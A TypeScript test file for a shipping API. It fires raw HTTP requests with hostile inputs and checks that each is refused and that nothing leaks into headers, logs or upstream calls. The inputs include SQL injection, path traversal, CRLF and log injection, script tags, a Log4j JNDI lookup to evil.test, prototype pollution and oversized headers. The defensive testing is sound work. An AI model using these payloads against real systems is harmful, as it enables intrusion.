import * as fc from 'fast-check';
import { eventually } from '../../testing/upstream/eventually';
import { VALID_REQUEST_ID } from '../support/operations';
import { useScriptedService } from '../support/service';
import { anyMutationOf } from './support/any-mutation';
import { exchangeRaw, RawConnection, type RawResponse } from './support/raw-connection';

/** Stands in every hostile text, so that it can be looked for where no part of the input may turn up. */
const MARK = 'ZQX';

/**
 * What a text is, as far as parameters care: `plain` is harmless to those that take any text, `control` holds control
 * characters, `malformed` cannot be decoded, `long` has more than 200 characters.
 */
type Kind = 'plain' | 'control' | 'malformed' | 'long';

/** Texts as an attacker might send them, percent-encoded where a request line needs it. */
const HOSTILE_TEXTS: readonly (readonly [name: string, encoded: string, kind: Kind])[] = [
  ['SQL', `'%20OR%20'1'='1';--${MARK}`, 'plain'],
  ['dot segments', `..%2F..%2F${MARK}`, 'plain'],
  ['encoded dots', `%2e%2e%2f%2e%2e%2f${MARK}`, 'plain'],
  ['a URL', `http:%2F%2Fevil.test%2F${MARK}`, 'plain'],
  ['CR and LF', `a%0D%0AX-Injected:%20${MARK}`, 'control'],
  ['LF alone', `a%0A{"level":30,"msg":"${MARK}"}`, 'control'],
  ['NUL', `a%00${MARK}`, 'control'],
  ['an escape sequence of terminals', `%1B[31m${MARK}`, 'control'],
  ['NEL, a control character beyond ASCII', `a%C2%85${MARK}`, 'control'],
  ['a line separator of Unicode', `%E2%80%A8${MARK}`, 'plain'],
  ['stacked accents', `Z${'%CC%81'.repeat(50)}${MARK}`, 'plain'],
  ['emoji', `%F0%9F%93%A6${MARK}`, 'plain'],
  ['a stray percent sign', `%${MARK}`, 'malformed'],
  ['overlong UTF-8', `%C0%AF${MARK}`, 'malformed'],
  ['half a surrogate pair', `%ED%A0%80${MARK}`, 'malformed'],
  ['Latin-1', `G%F6teborg${MARK}`, 'malformed'],
  ['a script', `<script>alert(${MARK})</script>`, 'plain'],
  ['a lookup of Log4j', `$%7Bjndi:ldap://evil.test/${MARK}%7D`, 'plain'],
  ['a parameter in a value', `a%26Status=Delivered%26${MARK}=1`, 'plain'],
  ['__proto__', `__proto__[${MARK}]=1`, 'plain'],
  ['what backtracking dreads', `${'a'.repeat(60)}!${MARK}`, 'plain'],
  ['201 characters', `${MARK}${'x'.repeat(198)}`, 'long'],
  ['15,000 characters', `${MARK}${'x'.repeat(15_000)}`, 'long'],
];

/** A list of strings without parameters (RFC 9651). */
const LIST_OF_STRINGS = /^("([ !#-[\]-~]|\\["\\])*"(, (?=")|$))+$/;
const KNOWN_HEADERS =
  /^(?:content-|cross-origin-|x-(?:request-id|content-type-options|frame-options)|referrer-policy|vary|cache-control)/;
const ALSO_KNOWN =
  /^(?:etag|link|date|connection|keep-alive|allow|preference-applied|shipping-completeness|shipping-ignored-parameters)$/;
const EXTERNAL_PATH = /^\/shippings\/(?:single|details|paged|by-id\/[A-Za-z0-9._-]+)$/;
const TRACE = /^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/;

interface Row {
  readonly name: string;
  readonly target: string;
  readonly statuses: readonly number[];
  readonly headers?: string;
}

const row = (name: string, target: string, statuses: readonly number[], headers = ''): Row => {
  return { name, target, statuses, headers };
};
const api = (rest: string): string => `/api/Shipping/${rest}`;

type Statuses = (kind: Kind) => readonly number[];
const REFUSED: Statuses = () => [400];
/** Where a text can be put, and what each kind of text gets there. */
const PLACES: readonly (readonly [name: string, before: string, statuses: Statuses])[] = [
  ['D7 SearchTerm', api('GetShippingDetails?SearchTerm='), (kind) => [kind === 'plain' ? 200 : 400]],
  ['D8 SortBy', api('GetShippingPagedList?SortBy='), (kind) => [['plain', 'long'].includes(kind) ? 200 : 400]],
  ['D2 an unknown one', api('GetShippingPagedList?Other='), (kind) => [kind === 'malformed' ? 400 : 200]],
  ['D9 the identifier', api('GetShippingInfoById/'), () => [400, 404]],
  ['D9 Id', api('GetShippingSingle?Id='), REFUSED],
  ['D5 Status', api('GetShippingPagedList?Status='), REFUSED],
  ['D6 FromDate', api('GetShippingDetails?FromDate='), REFUSED],
  ['D4 PageNumber', api('GetShippingPagedList?PageNumber='), REFUSED],
  ['the path', '/', () => [400, 404]],
];
/** Every text is tried there, not only one of each kind. */
const THOROUGHLY = ['D7 SearchTerm', 'D9 the identifier'];

const ONE_OF_EACH_KIND = HOSTILE_TEXTS.filter(
  ([, , kind], index) => HOSTILE_TEXTS.findIndex(([, , other]) => other === kind) === index,
);

const TEXT_ROWS = PLACES.flatMap(([place, before, statuses]) =>
  (THOROUGHLY.includes(place) ? HOSTILE_TEXTS : ONE_OF_EACH_KIND).map(([name, text, kind]) =>
    row(`${place}: ${name}`, before + text, statuses(kind)),
  ),
);

const LIST = api('GetShippingPagedList');
const MANY = 2_500;
const LONG = 15_000;
const STRICT_LINE = 'Prefer: handling=strict\r\n';
const QUERY_ROWS: readonly Row[] = [
  row('15,000 separators', `${LIST}?${'&'.repeat(LONG)}`, [200]),
  row('thousands of unknown parameters', `${LIST}?${'a=1&'.repeat(MANY)}`, [400]),
  row('thousands of duplicates', `${LIST}?${'Status=&'.repeat(1_500)}`, [400]),
  row('nested brackets', `${LIST}?a${'[b]'.repeat(MANY)}=1`, [200]),
  row('__proto__', `${LIST}?__proto__=1&__proto__[Status]=Delivered&constructor.prototype=1`, [200]),
  row('a parameter named like an array', `${LIST}?Status[]=Delivered&Status[0]=${MARK}`, [400]),
  row('a name as long as can be, strict', `${LIST}?${'x'.repeat(LONG)}=1`, [400], STRICT_LINE),
  row('a quote and angle brackets, raw', `${LIST}?SearchTerm="<${MARK}>"`, [200]),
  row('slashes without end', `${'/'.repeat(LONG)}nowhere`, [404]),
  row('a dot segment to the operation', '/api/Other/../Shipping/GetShippingDetails', [404]),
  row('a bad escape in the route', `/api/Shipping/%${MARK}`, [400, 404]),
  row('an identifier of 15,000 characters', api(`GetShippingInfoById/${'x'.repeat(LONG)}`), [400]),
  row('a date of 15,000 digits', api(`GetShippingDetails?FromDate=2024-01-01T00:00:00.${'0'.repeat(LONG)}Z`), [400]),
];

const HEADER_ROWS: readonly Row[] = [
  ['X-Request-Id with JSON', `X-Request-Id: ","level":60,"x":"${MARK}`],
  ['X-Request-Id beyond ASCII', `X-Request-Id: \xe9${MARK}`],
  ['an escaped line break in X-Request-Id', `X-Request-Id: %0d%0aX-Injected:${MARK}`],
  ['a traceparent of nonsense', `traceparent: ${MARK}`],
  ['a traceparent of 10 kB', `traceparent: 00-${MARK}${'a'.repeat(10_000)}`],
  ['Prefer of quotes', `Prefer: ${'"'.repeat(15_001)}`],
  ['Prefer of parameters', `Prefer: a${';b="c"'.repeat(2_500)}`],
  ['If-None-Match of 15 kB', `If-None-Match: ${'"a",'.repeat(3_700)}`],
  ['Accept of 15 kB', `Accept: ${'a/b;q=0.1,'.repeat(1_500)}`],
  ['Accept-Encoding of 15 kB', `Accept-Encoding: ${'gzip;q=0.1,'.repeat(1_300)}`],
  ['another host', 'X-Forwarded-Host: evil.test\r\nForwarded: host=evil.test'],
  ['another method', 'X-HTTP-Method-Override: DELETE'],
  ['credentials', `Authorization: Bearer ${MARK}\r\nCookie: session=${MARK}`],
].map(([name = '', headers = '']) => row(name, api('GetShippingDetails?Limit=1'), [200], `${headers}\r\n`));

const ROWS: readonly Row[] = [...TEXT_ROWS, ...QUERY_ROWS, ...HEADER_ROWS];

describe('hostile input', () => {
  const scripted = useScriptedService();

  it.each(ROWS)('$name', async ({ target, statuses, headers = '' }) => {
    const { service, upstream } = scripted;
    const loggedBefore = service.log.length;
    const bytes = `GET ${target} HTTP/1.1\r\nHost: service.test\r\n${headers}Connection: close\r\n\r\n`;

    const [response] = await exchangeRaw(service.url, bytes);
    if (response === undefined) throw new Error('The connection ended without a response');
    expect(statuses).toContain(response.status);
    expectCleanHeaders(response);

    if (response.status >= 400) expect(upstream.calls).toEqual([]);
    for (const call of upstream.calls) {
      expect(call.path).toMatch(EXTERNAL_PATH);
      expect(call.headers.host).toBe(new URL(upstream.url).host);
      expect(call.headers.traceparent).toMatch(TRACE);
      expect(call.headers['x-request-id']).toMatch(VALID_REQUEST_ID);
      const expected = ['accept', 'connection', 'host', 'traceparent', 'user-agent', 'x-request-id'];
      expect(Object.keys(call.headers).sort()).toEqual(expected);
    }

    await eventually('a line of the log', () => service.log.length > loggedBefore);
    const [line = '', ...others] = service.log.slice(loggedBefore);
    expect(others).toEqual([]);
    expect(JSON.parse(line)).toMatchObject({ msg: 'request', status: response.status });
    expect(line).not.toMatch(new RegExp(`${MARK}|evil|injected|\\n.`, 'i'));
  });

  const anyRequest = fc
    .constantFrom(
      api('GetShippingSingle?Id=SHP-1'),
      api('GetShippingInfoById/SHP-1'),
      api('GetShippingDetails?Status=InTransit&Limit=5&FromDate=2024-01-01'),
      api('GetShippingPagedList?PageNumber=1&PageSize=2&SortBy=Status&SortDirection=asc'),
      '/health/ready',
      '/docs?x=%41',
    )
    .map((target) => `GET ${target} HTTP/1.1\r\nHost: a\r\nIf-None-Match: W/"a"\r\nPrefer: handling=strict\r\n\r\n`)
    .chain(anyMutationOf);

  it('a request with mutated bytes is never a server error', async () => {
    const seen = new Set<number>();
    await fc.assert(
      fc.asyncProperty(anyRequest, async (bytes) => {
        const connection = await RawConnection.to(scripted.service.url);
        // What was cut off ends with the next request, which ends the connection.
        connection.send(`${bytes}\r\n\r\nGET /health/live HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
        await connection.ending;
        for (const { status } of connection.responses) seen.add(status);
        expect([...seen].filter((status) => !(status >= 200 && status < 500))).toEqual([]);
      }),
    );
    expect([...seen]).toEqual(expect.arrayContaining([200, 400]));
    expect(scripted.service.log.filter((line) => /"level":[56]0/.test(line))).toEqual([]);
  });
});

/** Nothing of the input became a header, and the request id is fit for anything. */
function expectCleanHeaders({ headers }: RawResponse): void {
  expect(headers['x-request-id']).toEqual([expect.stringMatching(VALID_REQUEST_ID)]);
  expect(headers['x-request-id']?.[0]).not.toContain(MARK);
  expect(Object.keys(headers).filter((name) => !KNOWN_HEADERS.test(name) && !ALSO_KNOWN.test(name))).toEqual([]);
  for (const list of headers['shipping-ignored-parameters'] ?? []) expect(list).toMatch(LIST_OF_STRINGS);
  expect(headers.link ?? []).toEqual((headers.link ?? []).filter((value) => /^[\x20-\x7e]+$/.test(value)));
}
